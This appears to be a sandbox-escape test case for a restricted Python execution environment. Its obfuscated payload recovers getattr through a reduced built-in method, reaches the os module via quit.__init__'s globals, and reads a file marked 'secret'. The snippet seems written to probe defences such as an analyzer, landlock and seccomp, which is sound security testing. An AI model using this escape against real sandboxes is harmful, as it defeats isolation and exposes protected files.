# class: denied builtins come back
# technique: reducing a bound built-in method names the real getattr
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
read = [].append.__reduce__()[0]
g = read(quit.__init__, "_".join(["", "", "glo" + chr(98) + "als", "", ""]))
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
